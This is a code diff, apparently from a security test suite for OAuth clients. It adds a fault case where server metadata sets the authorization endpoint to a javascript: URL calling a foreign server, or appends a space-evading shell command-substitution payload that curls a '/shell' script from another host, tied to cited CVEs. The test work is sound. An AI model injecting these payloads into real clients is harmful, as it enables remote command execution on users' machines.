@@ -212,15 +212,18 @@ export const metadata: FaultsOf<"metadata"> = faultsOf("metadata", {
     acts: moveKeys,
   },
   authorization_endpoint_script: {
-    server: "The authorization endpoint in the metadata is a javascript: URL that calls a foreign server.",
-    client: "Opens only an https URL, or an http URL of this machine.",
+    server:
+      "The authorization endpoint in the metadata is a javascript: URL that calls a foreign server, or its path has a " +
+      "command for a shell that does so.",
+    client: "Opens only an https URL, or an http URL of this machine, and hands it to no shell.",
     rule: "RFC 8414 §2: the value is a URL, but no rule says what a client does otherwise",
     needs: ["metadata"],
     bugs: ["CVE-2025-58444", "CVE-2025-6514"],
-    watch: { never: callsOtherServer },
-    acts: changeMetadata(setting(({ otherServer }) => ({
-      authorization_endpoint: `javascript:location='${otherServer}/script'//`,
-    }))),
+    watch: { never: callsOtherServer, sign: to("authorize"), signSays: "opened a page of this server" },
+    acts: (tools) =>
+      tools.variant === "shell" ? nameCommand(tools) : changeMetadata(setting(({ otherServer }) => ({
+        authorization_endpoint: `javascript:location='${otherServer}/script'//`,
+      })))(tools),
   },
   alg_none_listed: {
     level: "should",
@@ -424,6 +427,20 @@ function changeUrl(name: string, change: (url: string, tools: Tools) => string):
 
 function addQuery(name: string): CreateActs {
   return changeUrl(name, (url) => `${url}?tenant=postern`);
+}
+
+/** A shell runs the command, even inside of double quotes. For a browser, the path leads to the right page. */
+function nameCommand(tools: Tools): Acts {
+  let right: URL | undefined;
+  // A URL has no spaces.
+  const command = `$(curl$IFS$9-s$IFS$9${tools.otherServer}/shell)`;
+  return {
+    ...changeUrl("authorization_endpoint", (url) => (right = new URL(url), `${url}/${command}`))(tools),
+    arrival(value, { exchange: { request: { address: { path, query } } } }) {
+      if (right === undefined || !path.startsWith(`${right.pathname}/`)) return value;
+      return { ...value, answer: redirectAnswer(`${right.href}?${query}`) };
+    },
+  };
 }
 
 /** Moves the keys after the first login. */
